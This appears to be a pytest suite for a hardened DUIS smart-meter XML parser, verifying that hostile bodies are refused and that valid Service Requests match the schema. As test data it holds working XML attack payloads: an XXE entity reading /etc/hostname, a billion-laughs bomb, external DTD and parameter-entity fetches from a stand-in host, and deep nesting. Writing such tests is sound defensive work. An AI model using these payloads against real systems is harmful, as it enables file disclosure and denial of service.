"""Hardened DUIS XML parsing: hostile bodies are refused quickly with a specific reason (X5),
and well-formed Service Requests for 11.5-11.10 validate against our schema."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from lxml import etree

from chfw_api.duis import (
    NS_SR,
    REQUEST,
    XmlRejected,
    parse_request,
    parse_xml,
)
from chfw_api.duis.errors import (
    CODES,
    FORBIDDEN_DTD,
    NOT_WELL_FORMED,
    SCHEMA_INVALID,
    TOO_DEEP,
    TOO_LARGE,
    WRONG_ROOT,
)

EXAMPLES = Path(__file__).resolve().parents[2] / "docs" / "examples"
QUICK = 1.0  # seconds: every hostile body is refused well within this
SECRET = Path("/etc/hostname")


@contextmanager
def quickly() -> Iterator[None]:
    start = time.perf_counter()
    yield
    assert time.perf_counter() - start < QUICK


def rejected(call: Callable[[], object]) -> XmlRejected:
    with quickly(), pytest.raises(XmlRejected) as info:
        call()
    assert info.value.code in CODES
    assert info.value.reason
    return info.value


def request(body: str, *, sr: str = "11.9", counter: int = 1) -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<sr:Request xmlns:sr="{NS_SR}" schemaVersion="5.4">
  <sr:Header>
    <sr:RequestID>90-B3-D5-1F-30-01-00-00:90-B3-D5-1F-30-00-00-02:{counter}</sr:RequestID>
    <sr:CommandVariant>8</sr:CommandVariant>
    <sr:ServiceReference>{sr}</sr:ServiceReference>
    <sr:ServiceReferenceVariant>{sr}</sr:ServiceReferenceVariant>
  </sr:Header>
  <sr:Body>{body}</sr:Body>
</sr:Request>""".encode()


# --------------------------------------------------------------------------- hostile input


def test_xxe_external_entity_is_refused_before_parsing() -> None:
    # covers: X5
    body = f"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{SECRET}">]><r>&xxe;</r>""".encode()
    error = rejected(lambda: parse_xml(body))
    assert error.code == FORBIDDEN_DTD
    assert "DOCTYPE" in error.reason
    if SECRET.exists():
        assert SECRET.read_text().strip() not in str(error)


def test_billion_laughs_is_refused() -> None:
    # covers: X5
    entities = "".join(
        f'<!ENTITY l{i} "{"".join(f"&l{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    )
    body = f'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY l0 "lol">{entities}]><b>&l9;</b>'
    error = rejected(lambda: parse_xml(body.encode()))
    assert error.code == FORBIDDEN_DTD


def test_external_dtd_is_refused_without_touching_the_network() -> None:
    # covers: X5
    body = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd"><r/>'
    error = rejected(lambda: parse_xml(body))
    assert error.code == FORBIDDEN_DTD


def test_parameter_entity_in_internal_subset_is_refused() -> None:
    # covers: X5
    body = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><r/>'
    assert rejected(lambda: parse_xml(body)).code == FORBIDDEN_DTD


def test_plain_doctype_is_refused() -> None:
    # covers: X5
    error = rejected(lambda: parse_xml(b"<!DOCTYPE r><r/>"))
    assert error.code == FORBIDDEN_DTD
    assert "byte 0" in error.reason


def test_undeclared_entity_reference_is_refused_as_an_entity() -> None:
    # covers: X5
    error = rejected(lambda: parse_xml(b"<r>&xxe;</r>"))
    assert error.code == FORBIDDEN_DTD
    assert "xxe" in error.reason


def test_doctype_hidden_in_utf16_is_refused() -> None:
    # covers: X5 -- a byte scan for <!DOCTYPE must not be dodged by another encoding
    body = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'
    for encoded in (body.encode("utf-16"), body.encode("utf-16-le"), body.encode("utf-32")):
        error = rejected(lambda encoded=encoded: parse_xml(encoded))
        assert error.code == NOT_WELL_FORMED
        assert "UTF-8" in error.reason


def test_non_utf8_declared_or_ebcdic_body_is_refused() -> None:
    # covers: X5
    latin = b'<?xml version="1.0" encoding="ISO-8859-1"?><r/>'
    assert "ISO-8859-1" in rejected(lambda: parse_xml(latin)).reason
    ebcdic = '<?xml version="1.0" encoding="cp037"?><r/>'.encode("cp037")
    assert rejected(lambda: parse_xml(ebcdic)).code == NOT_WELL_FORMED


def test_30000_deep_nesting_is_refused_quickly_without_recursion() -> None:
    # covers: X5
    body = b"<a>" * 30_000 + b"</a>" * 30_000
    error = rejected(lambda: parse_xml(body))
    assert error.code == TOO_DEEP
    assert "nested" in error.reason


def test_depth_limit_is_the_callers() -> None:
    # covers: X5 -- below libxml2's own limit, our limit applies
    def nest(depth: int) -> bytes:
        return b"<a>" * depth + b"</a>" * depth

    assert parse_xml(nest(64), max_depth=64).tag == "a"
    error = rejected(lambda: parse_xml(nest(65), max_depth=64))
    assert error.code == TOO_DEEP
    assert "64" in error.reason
    assert rejected(lambda: parse_xml(nest(5), max_depth=4)).code == TOO_DEEP


def test_oversize_body_is_refused_before_parsing() -> None:
    # covers: X5
    body = b"<r>" + b"x" * 2_000 + b"</r>"
    error = rejected(lambda: parse_xml(body, max_bytes=1_000))
    assert error.code == TOO_LARGE
    assert error.http_status == 413
    assert "1000" in error.reason
    # The limit is checked first: even garbage of that size gets the size reason.
    assert rejected(lambda: parse_xml(b"\x00" * 5_000, max_bytes=1_000)).code == TOO_LARGE


@pytest.mark.parametrize(
    ("body", "expect"),
    [
        (b"<a><b></a>", "line 1"),
        (b"<a>", "line 1"),
        (b"<a/><b/>", "Extra content"),
        (b"<r>AT&T</r>", "EntityRef"),
        (b"<a>\xc3\x28</a>", "encoding"),
        (b"not xml at all", "does not start with XML markup"),
        (b"", "empty"),
        (b"   \n", "empty"),
    ],
)
def test_not_well_formed_is_refused_with_where_and_why(body: bytes, expect: str) -> None:
    # covers: X5
    error = rejected(lambda: parse_xml(body))
    assert error.code == NOT_WELL_FORMED
    assert error.http_status == 400
    assert expect in error.reason


def test_text_is_not_accepted_only_bytes() -> None:
    with pytest.raises(TypeError):
        parse_xml("<r/>")  # type: ignore[arg-type]


def test_comments_and_processing_instructions_are_dropped() -> None:
    root = parse_xml(b"<?xml version='1.0'?><r><!-- hi --><?pi x?><c/></r>")
    assert [child.tag for child in root] == ["c"]


# ------------------------------------------------------------------- schema and root checks


@pytest.mark.parametrize("path", sorted(EXAMPLES.glob("sr-*.xml")), ids=lambda p: p.stem)
def test_documented_examples_are_valid_requests(path: Path) -> None:
    # covers: A04, A05, BR2.3, BR3.1, BR3.8, BR5.3, BR5.5, BR6.2 -- the six SRs' schema
    root = parse_request(path.read_bytes())
    header = root.find(f"{{{NS_SR}}}Header")
    assert header is not None
    service_reference = header.findtext(f"{{{NS_SR}}}ServiceReference")
    assert service_reference is not None and path.stem.startswith(f"sr-{service_reference}-")


def test_there_is_one_example_per_service_request() -> None:
    names = {p.name.split("-")[1] for p in EXAMPLES.glob("sr-*.xml")}
    assert names == {"11.5", "11.6", "11.7", "11.8", "11.9", "11.10"}


def test_schema_violation_names_the_problem_and_its_line() -> None:
    # covers: X5
    body = request(
        "<sr:InstructCHFirmwareDeployment><sr:Stage>Pilot</sr:Stage>"
        "</sr:InstructCHFirmwareDeployment>",
        sr="11.7",
    )
    error = rejected(lambda: parse_request(body))
    assert error.code == SCHEMA_INVALID
    assert "CampaignID" in error.reason
    assert error.problems and error.problems[0].line == 9


@pytest.mark.parametrize(
    ("counter", "valid"),
    [(1, True), (2**64 - 1, True), (0, False), (2**64, False), (10**20, False)],
)
def test_request_id_counter_is_1_to_2_pow_64_minus_1(counter: int, valid: bool) -> None:
    # covers: X3 -- the counter's range is part of the RequestID type, as in DUIS
    body = request("<sr:ReadCHFirmwareDashboard/>", counter=counter)
    if valid:
        assert parse_request(body).tag == REQUEST
    else:
        assert rejected(lambda: parse_request(body)).code == SCHEMA_INVALID


def test_instruction_takes_50000_guids_and_not_both_list_and_all() -> None:
    # covers: BR3.7, BR3.8
    guids = "".join(
        f"<sr:DeviceID>00-DB-00-00-00-{i >> 16:02X}-{(i >> 8) & 255:02X}-{i & 255:02X}"
        "</sr:DeviceID>"
        for i in range(50_000)
    )
    head = (
        "<sr:InstructCHFirmwareDeployment><sr:CampaignID>C-1</sr:CampaignID>"
        "<sr:Stage>SafeLaunch</sr:Stage>"
        "<sr:RequestedActivationDateTime>2026-03-01T02:00:00Z</sr:RequestedActivationDateTime>"
    )
    start = time.perf_counter()
    root = parse_request(
        request(
            f"{head}<sr:DeviceIDList>{guids}</sr:DeviceIDList></sr:InstructCHFirmwareDeployment>",
            sr="11.7",
        )
    )
    assert time.perf_counter() - start < 3.0
    assert len(root.findall(f".//{{{NS_SR}}}DeviceID")) == 50_000
    assert (
        parse_request(
            request(f"{head}<sr:AllEligible/></sr:InstructCHFirmwareDeployment>", sr="11.7")
        ).tag
        == REQUEST
    )
    both = request(
        f"{head}<sr:DeviceIDList><sr:DeviceID>00-DB-12-34-56-78-90-A0</sr:DeviceID>"
        "</sr:DeviceIDList><sr:AllEligible/></sr:InstructCHFirmwareDeployment>",
        sr="11.7",
    )
    assert rejected(lambda: parse_request(both)).code == SCHEMA_INVALID


def test_a_response_is_not_a_request() -> None:
    # covers: X5
    body = f"""<sr:Response xmlns:sr="{NS_SR}" schemaVersion="5.4"><sr:Header>
<sr:ResponseCode>I0</sr:ResponseCode><sr:ResponseDateTime>2026-01-01T00:00:00Z
</sr:ResponseDateTime></sr:Header><sr:Body><sr:ResponseMessage>
<sr:ServiceReference>11.9</sr:ServiceReference>
<sr:ServiceReferenceVariant>11.9</sr:ServiceReferenceVariant>
</sr:ResponseMessage></sr:Body></sr:Response>""".encode()
    error = rejected(lambda: parse_request(body))
    assert error.code == WRONG_ROOT
    assert "Request" in error.reason


SIGNATURE = """<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">
<ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>
</ds:SignedInfo><ds:SignatureValue>AAAA</ds:SignatureValue>
<ds:KeyInfo><ds:X509Data/></ds:KeyInfo></ds:Signature>"""


def test_signature_may_come_last_and_only_last() -> None:
    # The schema places ds:Signature; verifying it is the signature checker's job.
    signed = request("<sr:ReadCHFirmwareDashboard/>").replace(
        b"</sr:Request>", SIGNATURE.encode() + b"</sr:Request>"
    )
    assert parse_request(signed).find("{http://www.w3.org/2000/09/xmldsig#}Signature") is not None
    misplaced = request("<sr:ReadCHFirmwareDashboard/>").replace(
        b"<sr:Body>", SIGNATURE.encode() + b"<sr:Body>"
    )
    assert rejected(lambda: parse_request(misplaced)).code == SCHEMA_INVALID


def test_parsed_tree_is_plain_lxml() -> None:
    root = parse_request(request("<sr:ReadCHFirmwareDashboard/>"))
    assert isinstance(root, etree._Element)
    assert root.getroottree().docinfo.doctype == ""


def test_second_layer_refuses_dtds_even_if_the_byte_scan_missed_them(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # covers: X5 -- defence in depth: with the pre-scan disabled, the parser settings and the
    # post-parse check still refuse, and no entity is ever expanded.
    import re

    from chfw_api.duis import parser

    monkeypatch.setattr(parser, "_FORBIDDEN_MARKUP", re.compile(rb"(?!x)x"))
    laughs = b'<!DOCTYPE b [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;">]><b>&m;</b>'
    xxe = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{SECRET}">]><r>&x;</r>'.encode()
    external = b'<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd"><r/>'
    for body in (laughs, xxe, external, b"<!DOCTYPE r><r/>"):
        error = rejected(lambda body=body: parse_xml(body))
        assert error.code == FORBIDDEN_DTD
